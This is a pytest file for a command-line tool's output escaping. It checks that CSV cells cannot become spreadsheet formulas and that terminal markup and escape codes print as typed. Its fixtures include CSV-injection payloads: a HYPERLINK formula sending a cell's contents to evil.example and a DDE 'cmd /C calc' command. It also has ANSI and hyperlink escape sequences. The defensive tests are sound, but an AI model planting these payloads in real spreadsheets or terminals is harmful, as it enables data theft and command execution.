"""The command line's output carries nothing: no formula in a CSV, no markup or control
character reaching the terminal, text the terminal cannot encode refused in one line."""

from __future__ import annotations

import io
import subprocess
import sys

import pandas as pd

from alfa_xl.cli import main
from cli_support import LINEUP_HEAD, write


EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB=1+1",
    "\rCR=1+1",
]


def evil_lineup(tmp, names=EVIL_NAMES) -> str:
    rows = [LINEUP_HEAD.strip(), "Junior,2024,33000,1,0,0,0"]
    for i, name in enumerate(names):
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f"{quoted},{2027 + i % 3},{5000 + i},0.5,0.2,0.2,0.1")
    return write(tmp / "evil.csv", "\n".join(rows) + "\n")


def csv_text_fields(text: str) -> list[str]:
    import csv

    out = []
    for row in csv.reader(io.StringIO(text)):
        for field in row:
            try:
                float(field)
            except ValueError:
                out.append(field)
    return out


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class TestFormulaInjection:
    def test_outlook_csv_writes_names_as_text(self, tmp_path, capsys):
        from alfa_xl.model.engine.lineup import load_lineup

        path = evil_lineup(tmp_path)
        names = load_lineup(path).names  # as the loader keeps them
        scenario = write(tmp_path / "s.csv", 'parameter,value\nname,"=1+1"\n')
        assert main(["outlook", "--lineup", path, "--scenario", scenario, "--format", "csv"]) == 0
        text = capsys.readouterr().out
        fields = csv_text_fields(text)
        live = [f for f in fields if f.startswith(FORMULA_STARTS)]
        assert live == []
        risky = [n for n in names if n.startswith(FORMULA_STARTS)]
        assert len(risky) >= 5  # the loader kept most of them: the rule had work to do
        for name in risky:
            assert "'" + name in fields, name
        assert "'=1+1" in fields  # the scenario name
        # numbers are still numbers (a negative gap is not text)
        assert main(["outlook", "--lineup", path, "--target", "100", "--format", "csv"]) == 0
        t = pd.read_csv(io.StringIO(capsys.readouterr().out))
        assert t["value"].dtype == float and (t["value"] < 0).any()

    def test_simulate_csv_writes_text_as_text(self, tmp_path, capsys):
        path = evil_lineup(tmp_path)
        assert main(["simulate", "-n", "200", "--lineup", path, "--format", "csv"]) == 0
        fields = csv_text_fields(capsys.readouterr().out)
        assert fields and [f for f in fields if f.startswith(FORMULA_STARTS)] == []
        assert "'+4 yr" in fields or any(f.startswith("'+") or f.startswith("'-") for f in fields)

    def test_markup_and_control_characters_print_as_typed(self, tmp_path, capsys):
        names = [
            "[/]",
            "[link=http://evil.example]click[/link]",
            "[bold red]loud",
            "esc\x1b[31mred\x1b]8;;http://x\x07",
        ]
        folder = tmp_path / "[" / "]folder"  # the path itself holds "[/]"
        folder.mkdir(parents=True)
        path = evil_lineup(folder, names)
        chart = folder / "[b]chart.png"
        assert main(["outlook", "--lineup", path, "--plot", str(chart)]) == 0
        out, err = capsys.readouterr()
        assert err == "" and chart.is_file()
        assert "\x1b" not in out and "\x07" not in out
        for text in ("[/]", "[link=http://evil.example]click[/link]", "[bold red]loud", "esc\\x1b[31mred", str(chart)):
            assert text in out, text
        assert (
            main(
                [
                    "simulate",
                    "-n",
                    "100",
                    "--lineup",
                    path,
                    "--scenario",
                    write(folder / "s.csv", "parameter,value\nname,[/]x\x1b[2J\n"),
                ]
            )
            == 0
        )
        out = capsys.readouterr().out
        assert "\x1b" not in out and "[/]x\\x1b[2J" in out

    def test_error_lines_show_control_characters_written_out(self, tmp_path, capsys):
        assert main(["outlook", "--scenario", "moon\x1b[2J"]) == 2
        err = capsys.readouterr().err
        assert "\x1b" not in err and len(err.strip().splitlines()) == 1


# -- files: one line and exit 2 for whatever the system refuses -------------------------------------------


class TestEncoding:
    def test_text_the_terminal_cannot_show(self, tmp_path):
        import os

        path = write(
            tmp_path / "l.csv", LINEUP_HEAD + "Junior,2024,33000,1,0,0,0\nGiulia \u00e9\u00e8\u4e2d,2027,5000,1,0,0,0\n"
        )
        env = dict(os.environ, PYTHONIOENCODING="ascii")
        done = subprocess.run(
            [sys.executable, "-m", "alfa_xl.cli", "outlook", "--lineup", path],
            capture_output=True,
            text=True,
            timeout=120,
            env=env,
        )
        assert done.returncode == 2 and "Traceback" not in done.stderr
        assert done.stderr.strip().splitlines() == [
            "alfa-xl: error: output: the terminal's encoding ascii cannot show '\\xe9\\xe8\\u4e2d'; "
            "use a UTF-8 terminal or set PYTHONIOENCODING=utf-8"
        ]
        # JSON escapes non-ASCII text, so it needs no UTF-8 terminal
        done = subprocess.run(
            [sys.executable, "-m", "alfa_xl.cli", "outlook", "--lineup", path, "-f", "json"],
            capture_output=True,
            text=True,
            timeout=120,
            env=env,
        )
        assert done.returncode == 0 and "Giulia \\u00e9\\u00e8\\u4e2d" in done.stdout


class TestBacktestAndFactsShareTheRules:
    """Regressions: ``backtest`` and ``facts`` once had their own CSV writer and console,
    so the injection and escaping rules did not reach them."""

    def test_backtest_unreadable_lineup_is_one_line(self, tmp_path, capsys):
        from cli_support import one_line

        missing = str(tmp_path / "gone.csv")
        code = main(["backtest", "--as-of", "2018", "--lineup", missing, "--paths", "200"])
        one_line(capsys, code, "gone.csv")

    def test_backtest_plot_path_with_markup_prints_as_typed(self, tmp_path, capsys):
        import pytest

        pytest.importorskip("matplotlib")
        target = tmp_path / "fan[b]x[/b].png".replace("/", "")
        assert main(["backtest", "--as-of", "2018", "--paths", "200", "--plot", str(target)]) == 0
        out = capsys.readouterr().out
        assert "fan[b]x[b].png" in out.replace("\n", "") and target.is_file()

    def test_facts_csv_cells_are_text_not_formulas(self, capsys):
        assert main(["facts", "--format", "csv"]) == 0
        fields = csv_text_fields(capsys.readouterr().out)
        assert fields and not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in fields)
